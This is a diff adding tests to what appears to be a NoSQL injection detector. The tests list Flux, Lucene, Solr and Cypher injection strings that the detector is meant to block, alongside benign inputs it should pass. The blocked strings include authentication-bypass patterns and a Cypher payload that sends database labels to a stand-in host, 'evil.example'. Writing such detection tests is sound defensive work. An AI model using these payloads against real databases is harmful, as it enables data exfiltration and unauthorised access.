@@ -25,3 +25,36 @@ test('a query of Flux behind a string that the value leaves is an attack, a whol
     '"blue" bucket (5 l) from "Tools"',
   ]);
 });
+
+test('a pipe of Flux that throws away or writes elsewhere, behind a string, is an attack', () => {
+  blocks(detectNosql, [
+    '") |> drop(columns: ["a"]) //',
+    'cpu") |> filter(fn: (r) => true) |> to(bucket: "x") //',
+    'x") |> to(bucket: "x") //',
+  ]);
+  passes(detectNosql, [
+    '"a" |> String.upcase() |> IO.puts()',
+    '("x") |> limit(2) // first two',
+    'from(bucket:"a") |> drop(columns: ["b"]) // tidy',
+  ]);
+});
+
+test('groups of Lucene that are left, queries within queries of Solr and procedures behind a condition are attacks', () => {
+  blocks(detectNosql, [
+    'username:admin) OR (1:1',
+    'title:foo) AND (body:*',
+    'password:* OR 1',
+    `_query_:"{!xmlparser v='x'}"`,
+    "1 OR 1=1 WITH 1 as a CALL db.labels() YIELD label LOAD CSV FROM 'http://evil.example/'+label as l RETURN 0 //",
+    '7 AND 1=1 CALL dbms.procedures()',
+  ]);
+  passes(detectNosql, [
+    'password:*',
+    'tokens:*',
+    '(title:foo) OR (body:bar)',
+    'status:open AND (owner:me OR owner:you)',
+    'please OR else CALL db.support (x)',
+    '1 or 2 call db.open(x)',
+    '_query_: all',
+  ]);
+});
